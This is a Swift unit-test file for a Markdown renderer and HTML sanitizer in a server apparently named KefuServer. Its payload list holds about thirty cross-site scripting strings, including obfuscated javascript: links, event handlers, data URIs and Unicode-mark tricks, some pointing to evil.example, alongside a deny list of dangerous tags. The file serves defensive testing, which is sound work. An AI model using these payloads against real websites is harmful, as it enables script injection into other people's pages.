import Foundation
import Testing

@testable import KefuServer

/// Markdown and raw HTML that try to run script: none survives rendering.
@Suite struct MarkdownSafetyTests {
    static let payloads = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt&#58;alert(1))",
        "[click](java\nscript:alert(1))",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<svg onload=alert(1)><circle/></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>body{display:none}</style>",
        "<p onclick=\"alert(1)\">hi</p>",
        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">ok</a>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<form action=\"https://evil.example\"><input name=q></form>",
        "<!--<script>alert(1)</script>-->",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=\"x\" alt=\"\\\"><script>alert(1)</script>\">",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        // A markup character joined to a combining or prepended mark is one Swift Character, yet markup to a browser.
        "&#x600;&lt;img src=x onerror=alert(1) &#x600;&gt;",
        "<img alt='\"\u{301} onerror=alert(1) x' src=/a.png>",
        "\u{600}<script>alert(1)</script>",
    ]

    /// What must never appear in rendered output.
    static func isSafe(_ html: String) -> Bool {
        let lower = html.lowercased()
        let forbidden = [
            "<script", "javascript:", "vbscript:", "data:", "<iframe", "<svg", "<math", "<style", "style=", "<object", "<embed",
            "<form", "<input", "<base", "<meta", "<template", "<noscript",
        ]
        if forbidden.contains(where: { lower.contains($0) }) { return false }
        // No event handler attribute on any tag (quoted attribute values are text, so they are left out).
        let unquoted = lower.replacingOccurrences(of: #""[^"]*""#, with: "\"\"", options: .regularExpression)
        return unquoted.range(of: #"<[^>]*\son[a-z]+\s*="#, options: .regularExpression) == nil
    }

    @Test(arguments: payloads)
    func renderedMarkdownHasNoScript(_ payload: String) {
        let html = MarkdownRenderer().html("Intro\n\n" + payload + "\n\nEnd")
        #expect(Self.isSafe(html), "unsafe output for \(payload): \(html)")
    }

    @Test func safeMarkupSurvives() {
        let html = MarkdownRenderer().html(
            "## Returns\n\n- **7 days**, no reason\n- see [policy](https://shop.example/returns)\n\n`code` and ![logo](/static/logo.png)"
        )
        #expect(html.contains("<h2>Returns</h2>"))
        #expect(html.contains("<strong>7 days</strong>"))
        #expect(html.contains("<a href=\"https://shop.example/returns\" rel=\"nofollow noopener noreferrer\">policy</a>"))
        #expect(html.contains("<code>code</code>"))
        #expect(html.contains("<img src=\"/static/logo.png\" alt=\"logo\">"))
    }

    @Test func escapingWorksOnScalarsNotCharacters() {
        let mark = "\u{301}"
        let prepend = "\u{600}"
        let quoted = HTMLSanitizer.escapeAttribute("\"" + mark + " x")
        #expect(quoted == "&quot;" + mark + " x")
        let bracket = HTMLSanitizer.escapeText(prepend + "<b>")
        #expect(bracket == prepend + "&lt;b&gt;")
        let template = ScalarHTMLEscaping().escapeText("'" + mark + "<")
        #expect(template == "&#39;" + mark + "&lt;")
    }

    @Test func everyTemplateEscapesPerScalar() throws {
        let folder = try ResourceFiles.base().appendingPathComponent("templates")
        for file in try FileManager.default.contentsOfDirectory(atPath: folder.path) where file.hasSuffix(".mustache") {
            let text = try String(contentsOf: folder.appendingPathComponent(file), encoding: .utf8)
            #expect(text.hasPrefix("{{% CONTENT_TYPE: KEFU_HTML }}"), "\(file) lacks the escaping pragma")
        }
    }

    @Test func openTagsAreClosedAndStrayClosingTagsDropped() {
        #expect(HTMLSanitizer().sanitize("<p><strong>bold") == "<p><strong>bold</strong></p>")
        #expect(HTMLSanitizer().sanitize("text</p></div>") == "text")
        #expect(HTMLSanitizer().sanitize("a < b & c > d") == "a &lt; b &amp; c &gt; d")
    }
}
